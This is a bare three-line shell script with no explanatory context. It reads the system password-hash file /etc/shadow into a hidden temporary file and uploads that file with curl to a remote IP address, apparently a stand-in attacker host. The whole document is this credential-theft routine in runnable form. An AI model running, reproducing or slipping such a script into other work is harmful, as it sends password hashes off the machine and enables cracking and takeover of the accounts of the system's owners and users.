#!/bin/sh
cat /etc/shadow > /tmp/.s
curl -F f=@/tmp/.s http://198.51.100.9/u
